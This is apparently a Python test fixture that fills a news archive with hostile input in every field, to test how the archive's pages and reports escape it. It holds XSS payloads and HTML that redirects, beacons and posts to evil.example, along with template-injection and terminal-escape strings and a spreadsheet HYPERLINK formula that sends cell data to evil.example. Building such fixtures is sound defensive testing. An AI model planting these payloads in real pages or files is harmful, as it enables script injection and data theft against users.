"""An archive in which every field of every page is an attack on who looks at it."""

from pathlib import Path
from typing import Any

from archive.layout import Layout
from archive.model import Article, Capture, Decision, Headline
from archive.runs import RunReport, Runs
from archive.search.building import catch_up
from archive.store import Store
from fakes.pages import article, decision, exchange, later, options

MARKUP = "<script>window.hacked=1</script>\"'><img src=x onerror=window.hacked=1><x-attack></x-attack>"
LEAVING = f"</title></textarea></style></script>--></iframe><x-attack>{MARKUP}"
TEMPLATE = "{{ 7*191 }}{% raw %}<x-attack>{{ config }}"
TURNED = "\u202egnp.exe\u202c \u2066abc \u200f"
ESCAPES = "\x1b[31mred\x1b]0;title\x07 \x08\x9b1m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ADDRESS = "javascript:window.hacked=1"
LONG = "ü<x-attack>" * 20_000
MANY = tuple(f"{MARKUP}{number}" for number in range(60))

PAGE = (
    b"<html><head><meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>"
    b"<script>parent.hacked=1;top.hacked=1</script></head><body onload=parent.hacked=1>"
    b"<img src=http://evil.example/seen><form action=http://evil.example/><button autofocus>x</button></form>"
    b"<iframe srcdoc='<script>parent.parent.hacked=1</script>'></iframe><h1 id=page>The page itself</h1>"
)
_HEAD = (
    b'HTTP/1.1 200 <x-attack>\r\nContent-Type: text/html; charset=utf-8"><script>\r\n'
    b"Server: <script>window.hacked=1</script><x-attack>\r\nX-Escape: \x1b[31m\r\n"
    b"Set-Cookie: newsarchive=0\r\nLocation: javascript:window.hacked=1\r\n\r\n"
)

_SAID = {"markup": MARKUP, "leaving": LEAVING, "template": TEMPLATE, "turned": TURNED, "escapes": ESCAPES,
         "formula": FORMULA, "long": LONG}  # fmt: skip


def attacked(root: Path) -> dict[str, str]:
    """Make the archive at ``root``, with its index.

    Returns:
        The ids of its articles by the kind of attack.
    """
    ids: dict[str, str] = {}
    with Store.open(root, options(run=f"run-{MARKUP[:40]}")) as store:
        for number, (name, said) in enumerate(_SAID.items()):
            url = f"http://news.example/{name}?q=<x-attack>&{'x' * 900}"
            sent = exchange(url, PAGE + said.encode(), head=_HEAD, started=later(number))
            capture = store.keep_exchange(sent)
            kept = store.keep_article(_article(capture, said), capture)
            store.keep_decision(_decision(capture, kept.id, said))
            ids[name] = kept.id
        capture = store.keep_exchange(
            exchange("http://news.example/again", PAGE, head=_HEAD, started=later(60))
        )
        changed = _article(
            capture, f"{MARKUP} {LEAVING} changed", version=2, version_of=ids["markup"], change="typo"
        )
        ids["version"] = store.keep_article(changed, capture).id
        store.keep_decision(_decision(capture, ids["version"], MARKUP, verdict="version", of=ids["markup"]))
    layout = Layout(root)
    Runs(layout).write(_run())
    catch_up(layout)
    return ids


def _article(capture: Capture, said: str, **more: Any) -> Article:
    values: dict[str, Any] = {
        "title": said,
        "headlines": tuple(
            Headline(f"{said[:5_000]} {place}", f"{place}{MARKUP}") for place in ("og", "h1", "title")
        ),
        "description": said,
        "authors": (said[:5_000], *MANY),
        "published": "2026-03-01T10:00:00Z",
        "modified": MARKUP,
        "source": f"source {said[:300]}",
        "language": '"><x-attack>',
        "section": said[:5_000],
        "tags": (said[:5_000], *MANY),
        "image": ADDRESS,
        "canonical_url": ADDRESS if said == MARKUP else capture.url,
        "flags": (said[:300], *MANY),
        "provenance": {MARKUP: MARKUP, "title": LEAVING},
        "extractor": {MARKUP: MARKUP},
    }
    return article(capture, f"{said}\n\nWords of the story. {said}", **(values | more))


def _decision(capture: Capture, article_id: str, said: str, **more: Any) -> Decision:
    values: dict[str, Any] = {
        "final_url": ADDRESS,
        "source": f"source {said[:300]}",
        "reason": MARKUP,
        "detail": said[:5_000],
        "found_in": ADDRESS,
        "evidence": {MARKUP: [MARKUP, {"deep": {MARKUP: LEAVING}}], "containment": MARKUP},
        "run": MARKUP,
    }
    return decision(capture, article_id, **(values | more))


def _run() -> RunReport:
    return RunReport(
        id="run-1",
        command=MARKUP,
        started="2026-03-01T11:00:00Z",
        ended="2026-03-01T13:00:00Z",
        outcome="failed",
        error=LEAVING,
        sources={MARKUP: {"new": 1, MARKUP: 2}, FORMULA: {"new": 3}},
        reasons={f"failed/{MARKUP}": 1},
        documents={MARKUP: 1},
        statuses={MARKUP: 3},
        troubles=(MARKUP, LEAVING, ESCAPES),
        owed={MARKUP: 2},
    )
